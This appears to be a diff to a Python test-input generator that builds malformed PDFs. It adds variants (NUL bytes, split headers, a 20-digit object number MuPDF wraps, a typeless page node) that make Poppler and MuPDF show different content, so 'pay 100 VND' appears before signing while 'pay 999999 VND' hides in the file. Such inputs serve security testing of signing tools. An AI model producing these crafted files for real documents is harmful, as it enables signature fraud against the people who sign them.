@@ -55,6 +55,11 @@ attacker's reading, 2026-12-03: "pay 100 VND" shown before signing, another text
                                                  to readers that repair), objx (a line
                                                  `3 0 objx`, a header to Poppler's rebuild),
                                                  midcount (a node of two pages saying /Count 1),
+                                                 nul, split, endobj-line (a header only Poppler's
+                                                 rebuild reads: a NUL, a 255-byte split, after
+                                                 `endobj`), wrap20 (a 20-digit number MuPDF
+                                                 wraps to 3), typeless (a node without /Type
+                                                 holding a /MediaBox: a page to MuPDF),
                                                  offws (an honest file whose table points one
                                                  byte before a header)
     python3 signing_inputs.py count IN OUT       IN with a second page in its page tree and /Count
@@ -363,11 +368,17 @@ elif mode == 'gap':
         return (b'<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] '
                 b'/Resources << /Font << /F1 5 0 R >> >> /Contents %d 0 R >>' % (parent, content))
 
-    trigger = b' /OCProperties 16 0 R' if variant in ('wrap', 'objx') else b''
+    injected = {'objx': b'3 0 objx', 'nul': b'3\x00junk\n0 objx', 'split': b' ' * 254 + b'30 objx',
+                'endobj-line': b'x endobj 3 0 objx'}
+    wrapped = {'wrap': b'4294967299 0 obj', 'wrap20': b'18446744073709551619 0 %c\nobj'}
+    trigger = b' /OCProperties 16 0 R' if variant in ('wrap', 'wrap20', *injected) else b''
     put(1, b'<< /Type /Catalog /Pages 2 0 R%s >>' % trigger)
-    if variant == 'midcount':
+    if variant in ('midcount', 'typeless'):
         put(2, b'<< /Type /Pages /Kids [6 0 R 7 0 R] /Count 3 >>')
-        put(6, b'<< /Type /Pages /Parent 2 0 R /Kids [3 0 R 4 0 R] /Count 1 >>')
+        if variant == 'midcount':
+            put(6, b'<< /Type /Pages /Parent 2 0 R /Kids [3 0 R 4 0 R] /Count 1 >>')
+        else:
+            put(6, b'<< /Parent 2 0 R /Kids [3 0 R 4 0 R] /Count 2 /MediaBox [0 0 612 792] >>')
         put(3, page(6, 10))
         put(4, page(6, 11))
         put(7, page(2, 12))
@@ -384,11 +395,11 @@ elif mode == 'gap':
     else:
         put(2, b'<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 1 >>')
         put(3, page(2, 11))
-        if variant == 'wrap':
-            b.extend(b'4294967299 0 obj\n%s\nendobj\n' % page(2, 10))
+        if variant in wrapped:
+            b.extend(b'%s\n%s\nendobj\n' % (wrapped[variant], page(2, 10)))
         put(4, page(2, 10))
-        if variant == 'objx':
-            put(12, stream(b'% data\n3 0 objx\n% more data'))
+        if variant in injected:
+            put(12, stream(b'% data\n' + injected[variant] + b'\n% more data'))
     put(5, b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>')
     put(10, stream(text(b'pay 100 VND')))
     put(11, stream(text(b'pay 999999 VND')))
@@ -422,7 +433,7 @@ elif mode == 'gap':
         x = len(b)
         t = b'xref\n0 1\n0000000000 65535 f\r\n'
         for n in sorted(offs):
-            sep = b'\t' if variant == 'wrap' and n == 3 else b' '
+            sep = b'\t' if variant in wrapped and n == 3 else b' '
             t += b'%d%s1\n%010d 00000 n\r\n' % (n, sep, offs[n])
         b += t + b'trailer\n<< /Size %d /Root 1 0 R /Info 20 0 R >>\n' % size
     b += b'startxref\n%d\n%%%%EOF\n' % x
